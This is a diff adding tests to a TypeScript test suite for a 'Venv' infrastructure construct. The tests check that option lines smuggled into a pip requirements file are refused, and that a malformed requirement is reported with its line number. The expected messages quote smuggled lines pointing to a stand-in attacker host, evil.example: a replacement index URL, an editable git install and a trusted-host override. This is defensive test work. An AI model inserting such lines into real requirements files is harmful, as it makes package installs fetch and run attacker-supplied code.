@@ -104,6 +104,32 @@ describe("Venv props", () => {
     expect(() => new Venv(stack, "venv", { host, requirements: "test/fixtures/apps/blog/requirements.txt", ...override })).toThrow(message);
   });
 
+  test("option lines smuggled into a requirements file are refused, each named with its line", () => {
+    const stack = new TerraformStack(new App({ outdir: "cdktf.out" }), "s");
+    const host = new WebshareHost(stack, "host", hostProps);
+    const file = "test/fixtures/requirements/smuggled-options.txt";
+    let message = "";
+    try {
+      new Venv(stack, "venv", { host, requirements: file });
+    } catch (e) {
+      message = (e as Error).message;
+    }
+    const refused = (line: number, raw: string) =>
+      `requirements ${file} line ${line}: option line ${JSON.stringify(raw)} is not allowed in requirement files; use the Venv's indexUrl/extraIndexUrls/wheelhouse props, or set allowRequirementOptions: true`;
+    expect(message.split("\n").slice(1)).toEqual([
+      `  - ${refused(2, "--index-url https://evil.example/simple")}`,
+      `  - ${refused(3, "-e git+https://evil.example/x.git#egg=x")}`,
+      `  - ${refused(4, "--trusted-host evil.example")}`,
+    ]);
+    expect(() => new Venv(stack, "allowed", { host, requirements: file, allowRequirementOptions: true, path: "other/venv" })).not.toThrow();
+  });
+
+  test("a malformed requirement is refused with its line number", () => {
+    const stack = new TerraformStack(new App({ outdir: "cdktf.out" }), "s");
+    const host = new WebshareHost(stack, "host", hostProps);
+    expect(() => new Venv(stack, "venv", { host, requirements: "test/fixtures/requirements/malformed.txt" })).toThrow(/requirements test\/fixtures\/requirements\/malformed\.txt: line 1: .*flask=>3/);
+  });
+
   test("index credentials never reach the message either", () => {
     const stack = new TerraformStack(new App({ outdir: "cdktf.out" }), "s");
     const host = new WebshareHost(stack, "host", hostProps);
